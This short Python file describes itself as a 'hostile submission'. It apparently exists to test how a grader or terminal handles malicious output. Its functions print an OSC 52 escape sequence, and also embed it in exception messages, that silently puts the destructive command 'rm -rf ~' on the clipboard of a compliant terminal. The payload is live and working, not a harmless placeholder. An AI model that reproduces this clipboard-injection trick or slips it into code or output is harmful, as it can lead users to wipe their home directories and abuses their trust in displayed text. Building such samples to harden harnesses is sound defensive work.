"""Hostile submission: writes to the reader's clipboard with OSC 52 (a terminal that obeys puts "rm -rf ~" there),
in its exception's message and in what it prints."""

import base64

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"rm -rf ~\n").decode() + "\x07"


def fun_z(x, y):
    print(CLIPBOARD)
    raise ValueError(CLIPBOARD)


def fun_dz(x, y):
    print(CLIPBOARD)
    return 0.0 * x, 0.0 * y


def gradient_field(xs=None, ys=None):
    raise ValueError(CLIPBOARD)
